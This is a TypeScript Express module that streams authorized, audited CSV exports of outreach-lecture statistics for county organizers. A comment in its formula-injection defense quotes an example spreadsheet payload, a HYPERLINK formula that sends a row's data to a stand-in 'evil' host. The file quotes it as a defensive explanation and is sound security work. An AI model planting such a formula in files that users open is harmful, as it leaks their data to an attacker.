import { randomUUID } from 'node:crypto';
import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { Router, type Request, type Response } from 'express';
import { stringify } from 'csv-stringify';
import { GraphQLError } from 'graphql';
import type { Viewer } from '../../auth/token';
import { currentViewer } from '../../auth/viewer';
import { AuditAction, recordAudit } from '../audit/audit.service';
import type { Services } from '../../context';
import { CountyModel, type CountyDoc } from '../county/county.model';
import { beijingWallClock } from '../shared/beijing-time';
import { VenueType } from '../venue/venue-type';
import {
  buildOutreachReport,
  outreachLectureBatches,
  resolveOutreachScope,
  type OutreachLectureRow,
  type OutreachScope,
} from './report.service';
import type { OutreachFigures } from './report.type';

/**
 * CSV exports of the outreach report, for the organizers' own spreadsheets:
 *   GET /exports/outreach.csv?year=2026&county=350702          one row per lecture of the scope
 *   GET /exports/outreach-summary.csv?year=2026&county=350702  by venue type and by county, with totals
 * Plain HTTP rather than GraphQL because the mini program hands the file to `Taro.downloadFile` +
 * `Taro.openDocument` (a plain link on H5). The token travels only in `Authorization: Bearer`: a
 * token in a URL ends up in proxy logs, browser history and Referer headers.
 *
 * Who may see what is decided by `resolveOutreachScope`, the same function the GraphQL report uses,
 * so the export and the report can never disagree about scope or validation.
 */

type ExportServices = Pick<Services, 'tokens' | 'logger'>;

/**
 * Lectures per batch. Each batch reads the outcomes, venues and lecturers of its lectures with an
 * `$in`, which the engine answers by decoding each whole collection: fewer, larger batches cost
 * less, and a thousand rows (a few hundred KB) is still nothing like the whole file in memory.
 */
const BATCH_SIZE = 1000;

const CITY_NAME = '南平市';

export const VENUE_TYPE_LABELS: Record<VenueType, string> = {
  [VenueType.VILLAGE]: '进农村',
  [VenueType.COMMUNITY]: '进社区',
  [VenueType.SCHOOL]: '进学校',
  [VenueType.GOVERNMENT]: '进机关',
  [VenueType.ENTERPRISE]: '进企业',
};

export const LECTURE_COLUMNS = [
  '讲座',
  '五进类型',
  '县（市、区）',
  '场地',
  '开始时间',
  '结束时间',
  '主讲人',
  '状态',
  '座位数',
  '预约座位',
  '预约户数',
  '签到人数',
  '现场登记人数',
  '到场总人数',
  '未到座位',
  '评价数',
  '平均评分',
] as const;

export const SUMMARY_COLUMNS = [
  '分组',
  '名称',
  '场次(已举办)',
  '目标场次',
  '场次完成率',
  '到场人数',
  '目标人数',
  '人数完成率',
  '预约座位',
  '签到人数',
  '现场登记人数',
  '出席率',
  '未到率',
  '覆盖户数',
  '平均评分',
] as const;

type Cell = string | number;

export function outreachExportRouter(services: ExportServices): Router {
  const router = Router();

  router.get('/outreach.csv', (req, res) =>
    exportScope(req, res, services, async (scope, place) => ({
      fileName: `五进讲座_${scope.year}_${place}.csv`,
      asciiFileName: `outreach_${scope.year}_${scope.countyCode ?? 'city'}.csv`,
      rows: lectureRows(scope),
    })),
  );

  router.get('/outreach-summary.csv', (req, res) =>
    exportScope(req, res, services, async (scope, place) => ({
      fileName: `五进汇总_${scope.year}_${place}.csv`,
      asciiFileName: `outreach-summary_${scope.year}_${scope.countyCode ?? 'city'}.csv`,
      rows: summaryRows(scope),
    })),
  );

  return router;
}

async function exportScope(
  req: Request,
  res: Response,
  services: ExportServices,
  file: (scope: OutreachScope, place: string) => Promise<CsvFile>,
): Promise<void> {
  try {
    const authorized = await authorizedScope(req, res, services);
    if (!authorized) return;
    const { viewer, scope } = authorized;
    const csv = await file(scope, await placeName(scope));
    // Households' figures leave the system here: logged before the first byte, and no log, no file.
    const logDownload = () =>
      recordAudit({
        // Every download is its own event: downloading again sends the data out again.
        id: `export:${randomUUID()}`,
        action: AuditAction.EXPORT_DOWNLOADED,
        actor: { viewer, ip: req.ip ?? null },
        subjectType: 'export',
        subjectId: csv.asciiFileName,
        countyCode: scope.countyCode,
        detail: `${csv.fileName} (year ${scope.year}, ${scope.countyCode ? `county ${scope.countyCode}` : 'whole city'})`,
      }, services.logger);
    await sendCsv(res, services, csv, logDownload);
  } catch (error) {
    answerError(res, services, error);
  }
}

// ---------- Authorization and validation ----------

/** The viewer and their scope for the request, or null once a 400/401/403 has been answered. */
async function authorizedScope(req: Request, res: Response, services: ExportServices): Promise<{ viewer: Viewer; scope: OutreachScope } | null> {
  try {
    const viewer = await currentViewer(req.get('authorization'), services.tokens);
    if (!viewer) {
      refuse(res, 401, '请先登录后再导出');
      return null;
    }
    const year = readYear(req.query.year);
    const county = readCounty(req.query.county);
    if (year === undefined) {
      refuse(res, 400, '年份不正确');
      return null;
    }
    if (county === undefined) {
      refuse(res, 400, '县（市、区）代码不正确');
      return null;
    }
    return { viewer, scope: resolveOutreachScope(viewer, year, county) };
  } catch (error) {
    answerError(res, services, error);
    return null;
  }
}

/** A year is digits only ("2026"); the range is the report's to judge. undefined: malformed. */
function readYear(raw: unknown): number | undefined {
  if (typeof raw !== 'string' || !/^\d{1,6}$/.test(raw)) return undefined;
  return Number(raw);
}

/** Absent or empty: the whole city. A repeated parameter (an array) is malformed. */
function readCounty(raw: unknown): string | null | undefined {
  if (raw === undefined || raw === '') return null;
  return typeof raw === 'string' ? raw : undefined;
}

/** The service speaks GraphQL error codes; the export answers the matching HTTP status. */
function answerError(res: Response, services: ExportServices, error: unknown): void {
  const code = error instanceof GraphQLError ? String(error.extensions.code ?? '') : '';
  if (code === 'UNAUTHENTICATED') return refuse(res, 401, '登录已失效，请重新登录后再导出');
  if (code === 'FORBIDDEN') return refuse(res, 403, '无权导出该范围的数据');
  if (code === 'BAD_USER_INPUT') {
    const fields = (error as GraphQLError).extensions.fields as Array<{ field: string }> | undefined;
    const field = fields?.[0]?.field ?? '';
    return refuse(res, 400, field === 'year' ? '年份不正确' : field === 'countyCode' ? '县（市、区）代码不正确' : '请求参数不正确');
  }
  services.logger.error({ err: error }, 'outreach export failed');
  refuse(res, 500, '导出失败，请稍后再试');
}

function refuse(res: Response, status: number, message: string): void {
  if (res.headersSent) return;
  res.status(status).set('Cache-Control', 'no-store').type('text/plain; charset=utf-8');
  if (status === 401) res.set('WWW-Authenticate', 'Bearer');
  res.send(message);
}

async function placeName(scope: OutreachScope): Promise<string> {
  if (!scope.countyCode) return CITY_NAME;
  const county = await CountyModel.findById(scope.countyCode, { name: 1 }).lean<CountyDoc>();
  return county?.name ?? scope.countyCode;
}

// ---------- Streaming ----------

interface CsvFile {
  fileName: string;
  asciiFileName: string;
  /** The header row first, then the records; pulled only as fast as the client reads. */
  rows: AsyncIterable<Cell[]>;
}

async function sendCsv(res: Response, services: ExportServices, file: CsvFile, beforeSending: () => Promise<void>): Promise<void> {
  const rows = file.rows[Symbol.asyncIterator]();
  // The status goes out with the first row: the lectures file sends its header at once (before
  // any lecture is read), the summary after its report is built, so a report that fails is still
  // a 500. Once bytes have gone out, a failure can only cut the download short.
  let first: IteratorResult<Cell[]>;
  try {
    first = await rows.next();
  } catch (error) {
    return answerError(res, services, error);
  }
  // Once the file is known to be ready (a report that fails is a 500, not a download).
  try {
    await beforeSending();
  } catch (error) {
    await rows.return?.();
    return answerError(res, services, error);
  }

  res.status(200);
  res.set({
    'Content-Type': 'text/csv; charset=utf-8',
    'Content-Disposition': contentDisposition(file.fileName, file.asciiFileName),
    // Organizers' figures and households' counts: never kept by a shared cache.
    'Cache-Control': 'private, no-store',
    'X-Content-Type-Options': 'nosniff',
  });

  const stringifier = stringify({
    // Excel reads a CSV without a BOM in the machine's ANSI code page (GBK on Chinese Windows)
    // and shows the UTF-8 headers as mojibake; with the BOM it reads UTF-8.
    bom: true,
    record_delimiter: 'windows',
    // CSV formula injection: lecture titles, venue and lecturer names are typed by lecturers and
    // venue staff, and an organizer opens this file in Excel or WPS, which run a cell starting
    // with = + - @ (or tab / carriage return) as a formula: `=HYPERLINK("http://evil/?"&A2, "点击")`
    // leaks the row, DDE payloads can run programs. The library prefixes such cells with ' so they
    // show as text; numbers (e.g. a negative count) are left alone. `cast.string` below also
    // catches the same characters behind leading spaces and in their full-width forms, which
    // spreadsheets in a Chinese locale may turn into formulas as well.
    escape_formulas: true,
    cast: { string: neutraliseFormula },
  });

  async function* all(): AsyncGenerator<Cell[]> {
    try {
      if (!first.done) yield first.value;
      for (;;) {
        const next = await rows.next();
        if (next.done) return;
        yield next.value;
      }
    } finally {
      // The client went away (or a write failed): stop reading lectures.
      await rows.return?.();
    }
  }

  try {
    // pipeline respects backpressure end to end: a batch is read only when the client has taken
    // the previous one, and it destroys everything if the client disconnects.
    await pipeline(Readable.from(all()), stringifier, res);
  } catch (error) {
    const code = (error as NodeJS.ErrnoException).code;
    if (code === 'ERR_STREAM_PREMATURE_CLOSE') return; // the client stopped the download
    if (!res.headersSent) {
      res.removeHeader('Content-Disposition');
      return answerError(res, services, error);
    }
    // Bytes are out, the status cannot change: cut the download so it is not taken as complete.
    services.logger.error({ err: error }, 'outreach export failed while streaming');
    res.destroy();
  }
}

const LEADING_FORMULA = /^[\s\u3000]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;

function neutraliseFormula(value: string): string {
  return LEADING_FORMULA.test(value) && !/^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
}

/**
 * RFC 6266 / 5987: `filename*` carries the Chinese name (every current browser and WeChat use it);
 * `filename` is an ASCII fallback for clients that ignore `filename*`.
 */
export function contentDisposition(fileName: string, asciiFileName: string): string {
  const encoded = Array.from(Buffer.from(fileName, 'utf8'))
    .map((byte) => {
      const char = String.fromCharCode(byte);
      // attr-char of RFC 5987: ALPHA / DIGIT / "!#$&+-.^_`|~"
      return byte < 0x80 && /[A-Za-z0-9!#$&+\-.^_`|~]/.test(char) ? char : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
    })
    .join('');
  return `attachment; filename="${asciiFileName.replace(/[^\x20-\x7e]|["\\]/g, '_')}"; filename*=UTF-8''${encoded}`;
}

// ---------- The two sheets ----------

async function* lectureRows(scope: OutreachScope): AsyncGenerator<Cell[]> {
  yield [...LECTURE_COLUMNS];
  for await (const batch of outreachLectureBatches(scope, BATCH_SIZE)) {
    for (const lecture of batch) yield lectureRow(lecture);
  }
}

function lectureRow(lecture: OutreachLectureRow): Cell[] {
  const f: OutreachFigures = lecture.figures;
  return [
    lecture.title,
    VENUE_TYPE_LABELS[lecture.venueType] ?? lecture.venueType,
    lecture.countyName,
    lecture.venueName,
    beijingMinute(lecture.startsAt),
    beijingMinute(lecture.endsAt),
    lecture.lecturerName,
    f.lecturesHeld > 0 ? '已举办' : '未开始',
    lecture.capacity,
    f.seatsBooked,
    f.householdsBooked,
    f.peopleCheckedIn,
    f.walkInPeople,
    f.peopleReached,
    f.noShowSeats,
    f.ratingCount,
    rating(f.averageRating),
  ];
}

async function* summaryRows(scope: OutreachScope): AsyncGenerator<Cell[]> {
  // A few dozen rows: the report is built before the header goes out, so a failure is still a 500.
  const report = await buildOutreachReport(scope);
  yield [...SUMMARY_COLUMNS];
  for (const row of report.byVenueType) {
    yield summaryRow('五进类型', VENUE_TYPE_LABELS[row.venueType as VenueType] ?? row.venueType, row.figures);
  }
  yield summaryRow('五进类型', '合计', report.totals);
  for (const row of report.byCounty) yield summaryRow('县（市、区）', row.county.name, row.figures);
  yield summaryRow('县（市、区）', '合计', report.totals);
}

function summaryRow(group: string, name: string, f: OutreachFigures): Cell[] {
  return [
    group,
    name,
    f.lecturesHeld,
    f.lectureTarget ?? '',
    percent(f.lectureProgress),
    f.peopleReached,
    f.peopleTarget ?? '',
    percent(f.peopleProgress),
    f.seatsBooked,
    f.peopleCheckedIn,
    f.walkInPeople,
    percent(f.attendanceRate),
    percent(f.noShowRate),
    f.householdsReached,
    rating(f.averageRating),
  ];
}

const pad = (n: number) => String(n).padStart(2, '0');

/** "2026-05-16 14:00", Beijing time: what organizers type into their own sheets. */
function beijingMinute(date: Date): string {
  const b = beijingWallClock(new Date(date));
  return `${b.getUTCFullYear()}-${pad(b.getUTCMonth() + 1)}-${pad(b.getUTCDate())} ${pad(b.getUTCHours())}:${pad(b.getUTCMinutes())}`;
}

/** 0.875 → "87.5%"; empty without a value (no target, nothing booked). */
function percent(ratio: number | null | undefined): string {
  return ratio === null || ratio === undefined || !Number.isFinite(ratio) ? '' : `${(ratio * 100).toFixed(1)}%`;
}

function rating(value: number | null | undefined): string {
  return value === null || value === undefined || !Number.isFinite(value) ? '' : value.toFixed(1);
}
